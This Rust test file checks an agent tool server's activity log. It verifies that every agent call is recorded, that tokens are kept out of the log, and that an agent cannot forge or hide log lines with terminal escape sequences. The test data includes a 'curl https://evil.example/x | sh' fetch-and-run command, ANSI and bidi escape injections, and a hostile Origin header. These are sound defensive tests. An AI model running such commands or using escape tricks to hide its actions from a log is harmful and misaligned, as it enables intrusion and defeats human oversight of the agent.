//! The activity trail end to end: every operation's line, refusals without secrets,
//! 10,000 calls from 16 clients in order, a full disk, planted FIFOs and symlinks, and
//! `termsprawl-tools activity --follow`.
#![cfg(feature = "host")] // drives `serve` or the default host
#![deny(unsafe_code)]

// Only its character rule is used here: what must never reach a terminal raw.
#[allow(dead_code)]
#[path = "../fuzz/check_trail.rs"]
mod check_trail;
mod common;
mod serve_harness;
mod sys;

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::thread;
use std::time::{Duration, Instant};

use check_trail::acts_or_hides;
use common::*;
use serde_json::{json, Value};
use serve_harness::{poll, Dirs, Serve};
use termsprawl_tools::activity::{read_tail, ActivityLine};
use termsprawl_tools::protocol::AGENT_TOOLS;
use termsprawl_tools::server::AgentToolServer;

/// Every parsable line of a trail file (whole lines only: each must parse).
fn lines_of(file: &Path) -> Vec<ActivityLine> {
    let text = fs::read_to_string(file).unwrap_or_default();
    text.lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}")))
        .collect()
}

/// Waits until `file` holds at least `n` lines; returns them.
fn wait_for_lines(file: &Path, n: usize) -> Vec<ActivityLine> {
    poll(
        &format!("{n} lines in {}", file.display()),
        Duration::from_secs(20),
        || {
            let lines = lines_of(file);
            (lines.len() >= n).then_some(lines)
        },
    )
}

fn assert_time_shape(time: &str) {
    let b = time.as_bytes();
    assert!(
        b.len() == 24 && b[4] == b'-' && b[10] == b'T' && b[19] == b'.' && b[23] == b'Z',
        "RFC 3339 UTC with ms: {time}"
    );
}

/// Arguments that pass validation, per operation (others are sent empty).
fn args_for(operation: &str, terminal: &str) -> Value {
    match operation {
        "guide_read" => json!({ "topic": "terminal" }),
        "canvas_move" => json!({ "nodeId": terminal, "x": 10, "y": 20 }),
        "canvas_resize" => json!({ "nodeId": terminal, "width": 300, "height": 200 }),
        "canvas_select" => json!({ "nodeIds": [terminal] }),
        "canvas_group" => json!({ "nodeIds": [terminal], "title": "group" }),
        "sticky_open" => json!({ "text": "t".repeat(300) }),
        "artifact_open" => json!({ "path": "/etc/passwd" }),
        "browser_open" => json!({ "url": "https://example.com/" }),
        "terminal_open" => json!({ "title": "second" }),
        "terminal_read" => json!({ "nodeId": terminal, "maxChars": 100 }),
        "terminal_submit" => json!({ "nodeId": terminal, "command": "echo hi" }),
        "terminal_input" => json!({ "nodeId": terminal, "text": "x" }),
        "terminal_interrupt" | "terminal_external" => json!({ "nodeId": terminal }),
        "agent_launch" => json!({ "agent": "custom" }),
        _ => json!({}),
    }
}

#[test]
fn every_operation_leaves_one_line_of_its_shape() {
    let dirs = Dirs::new("activity-shape");
    let serve = Serve::start(&dirs, &["--agent", "me", "--terminals", "pty"]);
    let file = dirs
        .agent_tools()
        .join(format!("activity/{}.jsonl", serve.project_id()));
    let terminal = serve.ok(&dirs, "me", "terminal_open", json!({ "title": "build" }))["nodeId"]
        .as_str()
        .unwrap()
        .to_string();
    let mut sent = vec![(
        "terminal_open".to_string(),
        json!({ "title": "build" }),
        true,
    )];
    for tool in AGENT_TOOLS {
        if tool.name == "terminal_close" {
            continue;
        }
        let args = args_for(tool.name, &terminal);
        let answer = serve.call(&dirs, "me", tool.name, args.clone());
        sent.push((tool.name.to_string(), args, answer["ok"] == true));
    }
    // One that fails validation, then the terminal closed last.
    let answer = serve.call(&dirs, "me", "canvas_move", json!({ "nodeId": 5 }));
    sent.push(("canvas_move".into(), Value::Null, answer["ok"] == true));
    let close = json!({ "nodeId": terminal });
    let answer = serve.call(&dirs, "me", "terminal_close", close.clone());
    sent.push(("terminal_close".into(), close, answer["ok"] == true));

    let lines = wait_for_lines(&file, sent.len());
    assert_eq!(lines.len(), sent.len(), "one line per call");
    for (line, (operation, args, ok)) in lines.iter().zip(&sent) {
        assert_time_shape(&line.time);
        assert_eq!(line.node_id.as_deref(), Some("me"), "{line:?}");
        assert_eq!(
            line.operation.as_deref(),
            Some(operation.as_str()),
            "{line:?}"
        );
        assert_eq!(line.outcome, if *ok { "ok" } else { "error" }, "{line:?}");
        assert_eq!(line.error.is_some(), !ok, "{line:?}");
        assert!(
            line.duration_ms.is_some() && line.status.is_none(),
            "{line:?}"
        );
        match args {
            // A request that did not validate: its arguments are not summarised.
            Value::Null => assert!(line.args.is_none(), "{line:?}"),
            Value::Object(map) if map.is_empty() => assert!(line.args.is_none(), "{line:?}"),
            Value::Object(map) if operation == "sticky_open" => {
                let text = line.args.as_ref().unwrap()["text"].as_str().unwrap();
                assert_eq!(text, format!("{}…", "t".repeat(200)));
                assert_eq!(map["text"].as_str().unwrap().len(), 300);
            }
            Value::Object(map) => assert_eq!(line.args.as_ref(), Some(map), "{line:?}"),
            other => panic!("{other}"),
        }
    }
    let errors = lines.iter().filter(|l| l.outcome == "error").count();
    eprintln!(
        "figure: {} operations recorded, {errors} of them errors",
        lines.len()
    );
    assert!(serve.stop().success());
}

/// Sends raw bytes on a new connection and returns the status code (0: no answer).
fn raw_status(port: u16, request: &[u8]) -> u16 {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let _ = stream.write_all(request);
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    let text = String::from_utf8_lossy(&answer);
    text.split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

#[test]
fn refused_requests_are_recorded_without_a_secret() {
    let clock = FakeClock::new();
    let data = scratch("activity-refused");
    let running = start_in(&data, Some(clock.clone()));
    let port = running.port;
    let token = running.session.token.clone();
    let file = data.join("agent-tools/activity/project-a.jsonl");
    let call_with = |auth: &str, extra: &str, body: &str| {
        let request = format!(
            "POST /call HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{auth}{extra}Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        raw_status(port, request.as_bytes())
    };
    let info = op("session_info", json!({}));
    let bearer = |t: &str| format!("Authorization: Bearer {t}\r\n");
    let mut flipped = token.clone().into_bytes();
    flipped[63] = if flipped[63] == b'0' { b'1' } else { b'0' };
    let flipped = String::from_utf8(flipped).unwrap();
    let mut expected = vec![
        (call_with(&bearer(&flipped), "", &info), 401),
        (call_with(&bearer(&token.to_uppercase()), "", &info), 401),
        (call_with(&bearer(&token[..32]), "", &info), 401),
        (
            call_with(&bearer(&token), "Origin: http://evil.example\r\n", &info),
            403,
        ),
    ];
    // Declared too large: refused from the headers, nothing read.
    let oversized = format!(
        "POST /call HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAuthorization: Bearer {token}\r\nContent-Length: 200000\r\n\r\n"
    );
    expected.push((raw_status(port, oversized.as_bytes()), 400));
    // Revoked: the token no longer authenticates.
    let other = running
        .server
        .provision(&identity("agent-2", "project-a"), status("external"), true)
        .unwrap();
    running.server.revoke("agent-2");
    expected.push((call_with(&bearer(&other.token), "", &info), 401));
    for (got, want) in &expected {
        assert_eq!(got, want);
    }
    // Expired in the queue: a call waiting behind a held one for longer than 15 s.
    let release = running.app.hold("project-a");
    let started = running.app.watch_starts();
    let first = {
        let token = token.clone();
        thread::spawn(move || call(port, Some(&token), &op("canvas_list", json!({}))))
    };
    started.recv_timeout(Duration::from_secs(10)).unwrap();
    let second = {
        let token = token.clone();
        thread::spawn(move || {
            call(
                port,
                Some(&token),
                &op("canvas_select", json!({"nodeIds": ["a"]})),
            )
        })
    };
    // Give the second call time to be queued, then let its wait pass 15 s.
    wait_until("the second call is queued", || {
        running.server.project_workers() == 1
    });
    thread::sleep(Duration::from_millis(200));
    clock.advance(Duration::from_secs(16));
    release.send(()).unwrap();
    assert_eq!(first.join().unwrap().status, 200);
    let expired = second.join().unwrap();
    assert!(expired.error().contains("expired"), "{}", expired.error());

    let lines = wait_for_lines(&file, expected.len() + 2);
    let refused: Vec<&ActivityLine> = lines.iter().filter(|l| l.status.is_some()).collect();
    assert_eq!(refused.len(), expected.len(), "{lines:#?}");
    for (line, (_, status)) in refused.iter().zip(&expected) {
        assert_eq!(line.status, Some(*status), "{line:?}");
        assert!(
            line.node_id.is_none() && line.operation.is_none(),
            "{line:?}"
        );
        assert!(line.peer_port.is_some_and(|p| p > 0), "{line:?}");
        assert_eq!(line.outcome, "error");
        assert!(!line.error.as_deref().unwrap_or("").is_empty(), "{line:?}");
    }
    let last = lines.last().unwrap();
    assert_eq!(last.operation.as_deref(), Some("canvas_select"));
    assert!(
        last.error.as_deref().unwrap().contains("expired"),
        "{last:?}"
    );
    let text = fs::read_to_string(&file).unwrap();
    for secret in [&token, &other.token] {
        for needle in [
            &secret[..],
            &secret[..32],
            &secret[32..],
            &secret.to_uppercase(),
        ] {
            assert!(!text.contains(needle), "the trail carries a token: {text}");
        }
    }
    assert!(!text.to_ascii_lowercase().contains("bearer"), "{text}");
    running.server.close();
}

#[test]
fn ten_thousand_calls_from_sixteen_clients_leave_ten_thousand_lines_in_order() {
    let data = scratch("activity-ten-thousand");
    let running = start_in(&data, None);
    let sessions: Vec<_> = (0..16)
        .map(|i| {
            let identity = identity(&format!("c{i}"), "project-a");
            running
                .server
                .provision(&identity, status("external"), true)
                .unwrap()
        })
        .collect();
    let port = running.port;
    let clients: Vec<_> = sessions
        .into_iter()
        .map(|session| {
            thread::spawn(move || {
                let mut client = Client::connect(port);
                for seq in 0..625 {
                    // Alternately queued (canvas_select, carrying the sequence number)
                    // and answered on the accept thread (agent_status).
                    let body = if seq % 2 == 0 {
                        op("canvas_select", json!({ "nodeIds": [format!("s{seq}")] }))
                    } else {
                        op("agent_status", json!({}))
                    };
                    let reply = client.call(Some(&session.token), &body);
                    assert_eq!(reply.status, 200, "{}", reply.error());
                }
            })
        })
        .collect();
    for client in clients {
        client.join().unwrap();
    }
    let file = data.join("agent-tools/activity/project-a.jsonl");
    let lines = wait_for_lines(&file, 10_000);
    assert_eq!(lines.len(), 10_000);
    assert_eq!(running.server.activity_dropped(), 0);
    for i in 0..16 {
        let node = format!("c{i}");
        let mine: Vec<&ActivityLine> = lines
            .iter()
            .filter(|l| l.node_id.as_deref() == Some(&node))
            .collect();
        assert_eq!(mine.len(), 625, "{node}");
        for (seq, line) in mine.iter().enumerate() {
            let operation = line.operation.as_deref().unwrap();
            if seq % 2 == 0 {
                assert_eq!(operation, "canvas_select", "{node} #{seq}");
                let ids = &line.args.as_ref().unwrap()["nodeIds"];
                assert_eq!(
                    ids,
                    &json!([format!("s{seq}")]),
                    "{node} #{seq}: out of order"
                );
            } else {
                assert_eq!(operation, "agent_status", "{node} #{seq}: out of order");
            }
        }
    }
    running.server.close();
}

/// A small tmpfs mounted for the test; unmounted on drop.
struct Tmpfs(PathBuf);

impl Tmpfs {
    fn mount(name: &str, size: &str) -> Option<Tmpfs> {
        let dir = scratch(name);
        let ok = Command::new("mount")
            .args([
                "-t",
                "tmpfs",
                "-o",
                &format!("size={size},mode=0700"),
                "tmpfs",
            ])
            .arg(&dir)
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        if !ok {
            eprintln!("NOTICE: cannot mount a tmpfs (not root?): full-disk test skipped");
        }
        ok.then_some(Tmpfs(dir))
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
        let _ = fs::remove_dir_all(&self.0);
    }
}

#[test]
fn a_full_disk_drops_lines_counts_them_and_fails_no_call() {
    let Some(disk) = Tmpfs::mount("activity-full-disk", "64k") else {
        return;
    };
    let data = scratch("activity-full-disk-data");
    let app = std::sync::Arc::new(FakeApp::default());
    let server = AgentToolServer::new(&data, app).unwrap();
    server.set_activity_directory(Some(disk.0.join("activity")));
    let port = server.start().unwrap().port;
    let session = server
        .provision(&identity("agent-1", "project-a"), status("external"), true)
        .unwrap();
    let started = Instant::now();
    let clients: Vec<_> = (0..16)
        .map(|_| {
            let token = session.token.clone();
            thread::spawn(move || {
                let mut client = Client::connect(port);
                let text = "x".repeat(150);
                for _ in 0..200 {
                    let reply =
                        client.call(Some(&token), &op("sticky_open", json!({ "text": text })));
                    assert_eq!(reply.status, 200, "{}", reply.error());
                }
            })
        })
        .collect();
    for client in clients {
        client.join().unwrap();
    }
    let elapsed = started.elapsed();
    let counted = poll("dropped lines counted", Duration::from_secs(10), || {
        let dropped = server.activity_dropped();
        (dropped > 0).then_some(dropped)
    });
    // session_info reports the count.
    let info = call(port, Some(&session.token), &op("session_info", json!({}))).json();
    assert!(
        info["value"]["activityDropped"].as_u64().unwrap() >= counted,
        "{info}"
    );
    // Closing writes (or counts) what is still queued.
    server.close();
    let dropped = server.activity_dropped();
    let kept = lines_of(&disk.0.join("activity/project-a.jsonl"));
    eprintln!(
        "figure: full 64 KiB disk: 3,200 calls all answered in {elapsed:?}, {} lines kept, {dropped} dropped",
        kept.len()
    );
    assert!(!kept.is_empty());
    assert_eq!(
        kept.len() as u64 + dropped,
        3_201,
        "every line written or counted"
    );
}

#[test]
fn a_planted_symlink_or_fifo_at_the_trail_is_not_followed() {
    for planted in ["symlink", "fifo"] {
        let data = scratch(&format!("activity-planted-{planted}"));
        let activity = data.join("agent-tools/activity");
        fs::create_dir_all(&activity).unwrap();
        fs::set_permissions(&activity, fs::Permissions::from_mode(0o700)).unwrap();
        let trail = activity.join("project-a.jsonl");
        let outside = data.join("outside.txt");
        fs::write(&outside, "untouched").unwrap();
        // The FIFO has a reader, so a writer that opened it would not even get ENXIO.
        let mut reader = None;
        if planted == "symlink" {
            std::os::unix::fs::symlink(&outside, &trail).unwrap();
        } else {
            sys::mkfifo(&trail, 0o600).expect("mkfifo");
            let fifo = fs::OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_NONBLOCK)
                .open(&trail)
                .unwrap();
            reader = Some(fifo);
        }
        let running = start_in(&data, None);
        for _ in 0..20 {
            let reply = call(
                running.port,
                Some(&running.session.token),
                &op("canvas_list", json!({})),
            );
            assert_eq!(reply.status, 200);
        }
        poll(
            "the lines counted as dropped",
            Duration::from_secs(10),
            || (running.server.activity_dropped() >= 20).then_some(()),
        );
        running.server.close();
        assert_eq!(
            fs::read_to_string(&outside).unwrap(),
            "untouched",
            "{planted}"
        );
        if let Some(mut fifo) = reader {
            let mut got = Vec::new();
            let _ = fifo.read_to_end(&mut got);
            assert!(
                got.is_empty(),
                "{planted}: {} bytes went into the FIFO",
                got.len()
            );
        }
        assert!(
            read_tail(&activity, "project-a", 10).is_empty(),
            "{planted}"
        );
    }
}

#[test]
fn activity_follow_shows_a_new_call() {
    let dirs = Dirs::new("activity-follow");
    let serve = Serve::start(&dirs, &["--agent", "me", "--terminals", "pty"]);
    serve.ok(&dirs, "me", "canvas_list", json!({}));
    let file = dirs
        .agent_tools()
        .join(format!("activity/{}.jsonl", serve.project_id()));
    wait_for_lines(&file, 1);
    let mut follow = Command::new(env!("CARGO_BIN_EXE_termsprawl-tools"))
        .arg("activity")
        .arg("--data")
        .arg(&dirs.data)
        .arg("--follow")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let (lines, seen) = mpsc::channel();
    let out = follow.stdout.take().unwrap();
    thread::spawn(move || {
        for line in BufReader::new(out).lines().map_while(Result::ok) {
            let _ = lines.send((Instant::now(), line));
        }
    });
    let (_, backlog) = seen
        .recv_timeout(Duration::from_secs(10))
        .expect("the backlog line");
    assert!(
        backlog.contains("me") && backlog.contains("canvas_list"),
        "{backlog}"
    );
    // Let `--follow` settle at the end of the file, then make a call.
    thread::sleep(Duration::from_millis(500));
    let answered = {
        serve.ok(&dirs, "me", "guide_read", json!({ "topic": "canvas" }));
        Instant::now()
    };
    // Bounded wait, not a timing assertion: `--follow` checks every 200 ms; the delay is
    // printed as a figure, never judged (a shared machine's load would make it flaky).
    let (at, line) = seen
        .recv_timeout(Duration::from_secs(10))
        .expect("the new line");
    let _ = follow.kill();
    let _ = follow.wait();
    let delay = at.saturating_duration_since(answered);
    eprintln!("figure: activity --follow showed a call {delay:?} after its answer: {line}");
    assert!(
        line.contains("guide_read") && line.contains("canvas"),
        "{line}"
    );
    // The line for people: time, node, operation, outcome, duration, arguments.
    let words: Vec<&str> = line.split_whitespace().collect();
    assert_eq!(words[1..4], ["me", "guide_read", "ok"], "{line}");
    assert!(serve.stop().success());
}

/// `termsprawl-tools activity --data DATA` with `extra`: (exit code, stdout, stderr).
fn activity(data: &Path, extra: &[&str]) -> (Option<i32>, Vec<u8>, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_termsprawl-tools"))
        .arg("activity")
        .arg("--data")
        .arg(data)
        .args(extra)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    (out.status.code(), out.stdout, stderr)
}

#[test]
fn an_agent_cannot_forge_or_hide_lines_of_activity_in_a_terminal() {
    let dirs = Dirs::new("activity-forgery");
    let serve = Serve::start(&dirs, &["--agent", "me", "--terminals", "pty"]);
    let file = dirs
        .agent_tools()
        .join(format!("activity/{}.jsonl", serve.project_id()));
    let terminal = serve.ok(&dirs, "me", "terminal_open", json!({ "title": "build" }))["nodeId"]
        .as_str()
        .unwrap()
        .to_string();
    let command = "echo would-run curl https://evil.example/x | sh";
    serve.call(
        &dirs,
        "me",
        "terminal_submit",
        json!({ "nodeId": terminal, "command": command }),
    );
    // Carriage return, erase the line, cursor up, then a line made to look like ours.
    let forged = "\r\x1b[2K\x1b[1A12:00:00.000  me  canvas_list      ok     1 ms";
    let refused = serve.err(&dirs, "me", forged, json!({}));
    assert!(refused.starts_with("Unknown operation"), "{refused}");
    // C1 CSI, a bidi override and an OSC window title, in arguments and an error text.
    let hostile = "a\u{9b}2J\u{202e}txt.exe\x1b]0;owned\x07\u{200b}";
    serve.ok(&dirs, "me", "sticky_open", json!({ "text": hostile }));
    let unknown = serve.err(
        &dirs,
        "me",
        "canvas_move",
        json!({ "nodeId": terminal, "x": 1, "y": 1, hostile: 1 }),
    );
    assert!(
        unknown.contains(hostile),
        "the error echoes the key: {unknown}"
    );
    let recorded = wait_for_lines(&file, 5);

    let (code, stdout, stderr) = activity(&dirs.data, &[]);
    assert_eq!(code, Some(0), "{stderr}");
    let shown = String::from_utf8(stdout).expect("UTF-8");
    if let Some(c) = shown.chars().find(|c| acts_or_hides(*c)) {
        panic!("a raw {c:?} reached the terminal: {shown:?}");
    }
    let lines: Vec<&str> = shown.lines().collect();
    assert_eq!(lines.len(), recorded.len(), "one line per call: {shown}");
    // The command is still on its own line, where the forged operation tried to erase it.
    let submitted = lines
        .iter()
        .position(|l| l.contains("terminal_submit"))
        .unwrap_or_else(|| panic!("{shown}"));
    assert!(
        lines[submitted].contains(&format!("\"{command}\"")),
        "{shown}"
    );
    let forgery = &lines[submitted + 1];
    assert!(
        forgery.contains(r#"  (unknown) "\r\x1b[2K\x1b[1A12:00:00.000  me  canvas_list"#),
        "{forgery}"
    );
    let escaped = r#"a\x9b2J\u202etxt.exe\x1b]0;owned\x07\u200b"#;
    let sticky = lines.iter().find(|l| l.contains("sticky_open")).unwrap();
    assert!(sticky.contains(&format!("\"{escaped}\"")), "{sticky}");
    let error = lines.last().unwrap();
    assert!(
        error.contains("canvas_move") && error.contains(&format!("Unknown argument: {escaped}")),
        "{error}"
    );

    // --json is the file, byte for byte.
    let (code, json, stderr) = activity(&dirs.data, &["--json"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        json == fs::read(&file).unwrap(),
        "--json differs from the file"
    );
    assert!(serve.stop().success());
}

#[test]
fn a_hand_made_trail_with_a_nine_megabyte_operation_is_printed_cut() {
    let dirs = Dirs::new("activity-huge");
    let activity_dir = dirs.agent_tools().join("activity");
    fs::create_dir_all(&activity_dir).unwrap();
    let huge = "x".repeat(9_000_000);
    let lines = [
        json!({ "time": "2026-12-05T03:04:05.678Z", "nodeId": "me", "operation": huge,
                "outcome": "error", "error": "Unknown operation", "durationMs": 1 })
        .to_string(),
        "{\"time\":\"2026-12-05T03:04".to_string(), // torn: skipped by both printers
        // Keys out of order, an unknown field, escapes as another writer made them.
        r#"{"outcome":"ok","time":"2026-12-05T03:04:06.000Z","nodeId":"me","operation":"canvas_select","args":{"z":1,"nodeIds":["\u00e9"]},"extra":true}"#.to_string(),
    ];
    let text = lines.join("\n") + "\n";
    let file = activity_dir.join("p1.jsonl");
    fs::write(&file, &text).unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();

    let (code, stdout, stderr) = activity(&dirs.data, &[]);
    assert_eq!(code, Some(0), "{stderr}");
    let shown = String::from_utf8(stdout).unwrap();
    let printed: Vec<&str> = shown.lines().collect();
    assert_eq!(printed.len(), 2, "{}", &shown[..shown.len().min(2_000)]);
    assert!(printed[0].len() < 1_000, "{} bytes", printed[0].len());
    assert!(
        printed[0].contains(&format!("(unknown) \"{}…\"", "x".repeat(60))),
        "{}",
        printed[0]
    );
    assert!(printed[1].contains("canvas_select"), "{}", printed[1]);

    let (code, json, stderr) = activity(&dirs.data, &["--json"]);
    assert_eq!(code, Some(0), "{stderr}");
    let expected = format!("{}\n{}\n", lines[0], lines[2]);
    assert!(
        json == expected.as_bytes(),
        "--json is not the file's whole lines"
    );
}

#[test]
fn a_command_line_message_quotes_a_name_escaped() {
    let dirs = Dirs::new("activity-message");
    let id = "\x1b]0;owned\x07\u{202e}p1";
    let (code, _, stderr) = activity(&dirs.data, &["--project-id", id]);
    assert_eq!(code, Some(1), "{stderr}");
    if let Some(c) = stderr.chars().find(|c| acts_or_hides(*c)) {
        panic!("a raw {c:?} reached the terminal: {stderr:?}");
    }
    assert!(
        stderr.contains(r"\x1b]0;owned\x07\u202ep1 is not a project id"),
        "{stderr}"
    );
}

#[test]
fn a_project_id_without_a_trail_is_refused_naming_those_with_one() {
    let dirs = Dirs::new("activity-unknown-id");
    let activity_dir = dirs.agent_tools().join("activity");
    fs::create_dir_all(&activity_dir).unwrap();
    let (code, stdout, stderr) = activity(&dirs.data, &["--project-id", "nope"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stdout.is_empty());
    assert!(
        stderr.starts_with("termsprawl-tools activity: project nope has no activity trail in ")
            && stderr.contains("no project has one yet"),
        "{stderr}"
    );

    let line = json!({ "time": "2026-12-05T03:04:05.678Z", "nodeId": "me",
        "operation": "canvas_list", "outcome": "ok", "durationMs": 1 });
    for project in ["p2", "p1"] {
        let file = activity_dir.join(format!("{project}.jsonl"));
        fs::write(&file, format!("{line}\n")).unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
    }
    for extra in [
        &["--project-id", "nope"][..],
        &["--project-id", "nope", "--follow"],
    ] {
        let (code, stdout, stderr) = activity(&dirs.data, extra);
        assert_eq!(code, Some(1), "{extra:?}: {stderr}");
        assert!(stdout.is_empty(), "{extra:?}");
        assert!(
            stderr.contains("project nope has no activity trail in ")
                && stderr.contains("; projects with a trail: p1, p2"),
            "{extra:?}: {stderr}"
        );
    }
    // A project with a trail is shown as before.
    let (code, stdout, stderr) = activity(&dirs.data, &["--project-id", "p1"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(String::from_utf8(stdout).unwrap().contains("canvas_list"));
}
